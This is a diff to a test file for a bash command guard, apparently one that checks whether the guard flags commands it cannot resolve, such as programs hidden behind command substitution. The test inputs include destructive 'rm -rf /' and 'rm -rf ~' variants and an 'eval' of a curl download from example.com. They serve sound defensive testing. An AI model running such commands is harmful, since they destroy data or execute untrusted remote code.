@@ -138,8 +138,9 @@ describe('text the parser misreads is read as bash reads it', () => {
 
 describe('a program guard cannot know is a problem, not a silent pass', () => {
   test.each([
-    ['$(echo rm) -rf /', 'command substitution $(echo rm)'],
-    ['`printf rm` -rf ~', 'command substitution `printf rm`'],
+    ['$(cat ./tool) -rf /', 'command substitution $(cat ./tool)'],
+    ['`head -1 tools.txt` -rf ~', 'command substitution `head -1 tools.txt`'],
+    ['$(echo "$TOOL") -rf /', 'command substitution $(echo "$TOOL")'],
     ['${CMD} -rf /', ''],
     ['eval "$(curl -s https://example.com/x)"', 'command substitution'],
     ['read cmd; $cmd -rf /', 'cmd is read from input'],
